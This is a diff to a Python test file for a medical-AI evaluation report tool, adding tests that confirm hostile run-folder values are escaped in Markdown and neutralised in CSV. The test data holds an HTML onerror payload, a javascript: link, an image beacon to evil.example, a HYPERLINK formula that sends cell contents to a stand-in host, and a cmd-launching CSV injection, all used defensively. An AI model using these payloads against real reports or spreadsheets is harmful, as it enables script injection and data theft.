@@ -10,7 +10,7 @@ from medheval.cli import main
 from medheval.report.build import write_report
 from medheval.report.collect import ReportError, find_runs, split_of
 from medheval.report.paper import CLINHALLU_NOTE, DELTA_VALID_ONLY, build_tables, comparisons, format_cell, to_markdown
-from medheval.report.tables import CLINHALLU_STAGE_NOTES
+from medheval.report.tables import CLINHALLU_STAGE_NOTES, md_text
 from medheval.report.stats import FEW_CLUSTERS, LEVEL, METHOD_NOTE, NO_SPREAD, bootstrap_ci, expanded_level
 from clinhallu_fixture import HAND_TABLE
 from report_runs import write_clinhallu_run, write_grid, write_run
@@ -369,7 +369,8 @@ def test_clinhallu_intervals_in_the_written_report(tmp_path):
     markdown = written["markdown"].read_text()
     acc = format_cell(_clinhallu_tables(run)[2]["all"]["Acc"])
     assert acc.startswith("33.3 [") and f"| med-vlm | clinhallu:all | all | 6 | {acc} |" in markdown
-    assert CLINHALLU_NOTE in markdown and METHOD_NOTE in markdown and "no interval here" not in markdown
+    assert md_text(CLINHALLU_NOTE) in markdown and md_text(METHOD_NOTE) in markdown  # notes escaped in Markdown
+    assert "no interval here" not in markdown
     page = written["html"].read_text()
     assert format_cell(_clinhallu_tables(run)[2]["all"]["Acc"], markdown=False) in page and "ClinHallu Table 2" in page
     rows = list(csv.DictReader(io.StringIO(written["csv"].read_text())))
@@ -551,3 +552,59 @@ def test_runs_are_named_by_short_labels_that_name_the_control(tmp_path):
     markdown = written["markdown"].read_text()
     assert "Runs: `m · none`, `m · none · blank`, `m · none · no_image`, `m · vcd (medheval)`" in markdown
     assert f"- `m · vcd (medheval)`: `m · {vcd}` (" in markdown
+
+
+# -- a hostile run folder plants nothing in report.md or tables.csv ------------------------------------------------
+HOSTILE = "<img src=x onerror=alert(1)>"
+
+
+def _hostile_run(tmp_path):
+    """The audit's run folder: tags in the model name, mitigation, a warning, a split name and a category."""
+    run = write_run(tmp_path / "r1", "none", [True, False, True, False], model="m" + HOSTILE + "`x`", prompt=True)
+    results = json.loads((run / "results.json").read_text())
+    results["warnings"] = ["warn" + HOSTILE + " ![pixel](https://evil.example/p.png) [click](javascript:alert(1))"]
+    results["settings"]["mitigation"] = "vcd" + HOSTILE
+    entry = results["benchmarks"].pop("mm_vishal:all")
+    entry["metrics"]["close_ended_accuracy"]["accuracy_by_category"]["cat" + HOSTILE] = 0.5
+    results["benchmarks"]["mm_vishal:all" + HOSTILE] = entry
+    (run / "results.json").write_text(json.dumps(results))
+    items = [json.loads(line) for line in (run / "scored.jsonl").read_text().splitlines()]
+    for item in items:
+        item.update(split="mm_vishal:all" + HOSTILE, category="cat" + HOSTILE)
+    (run / "scored.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items))
+    return run
+
+
+def test_report_md_escapes_caveats_footers_and_names_from_run_folders(tmp_path):
+    from markdown_it import MarkdownIt
+
+    write_report([_hostile_run(tmp_path)], tmp_path / "out", plots=False, html=False)
+    markdown = (tmp_path / "out" / "report.md").read_text()
+    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown
+    assert "- warn&lt;img" in markdown  # the warning, a caveat: shown as text
+    assert "_Resampled: mm_vishal:all&lt;img" in markdown  # a footer naming the split
+    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
+    assert "<img" not in rendered and "<a " not in rendered and "href" not in rendered
+    assert "``m&lt;img src=x onerror=alert(1)&gt;`x` · vcd&lt;img" in markdown  # a backtick does not end the span
+
+
+def test_md_text_and_md_code_escape_html_links_and_backticks():
+    from medheval.report.tables import md_code, md_text
+
+    assert md_text("a <b> & ![x](http://e/) [y](javascript:z)\nc|d") == \
+        "a &lt;b&gt; &amp; !\\[x\\](http://e/) \\[y\\](javascript:z) c\\|d"
+    assert md_code("plain") == "`plain`" and md_code("a`b") == "``a`b``" and md_code("`a``") == "``` `a`` ```"
+    assert md_code("<i>\nx|y", cell=True) == "`&lt;i&gt; x\\|y`"
+
+
+def test_tables_csv_neutralises_formulas_but_keeps_numbers(tmp_path):
+    from medheval.report.tables import csv_cell
+
+    run = write_run(tmp_path / "r1", "none", [True, False, True, False], model='=HYPERLINK("http://evil/?"&A1,"open")')
+    write_report([run], tmp_path / "out", plots=False, html=False)
+    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "tables.csv").read_text())))
+    assert rows[1][1].startswith("'=HYPERLINK(") and not any(cell.startswith(("=", "@")) for row in rows for cell in row)
+    for text in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "-inf-1"):
+        assert csv_cell(text) == "'" + text
+    for kept in (-0.05, 3, "-0.05", "+1.2", "-1e-05", "1.5", "-inf", "nan", "–", "n/a", ""):
+        assert csv_cell(kept) == kept
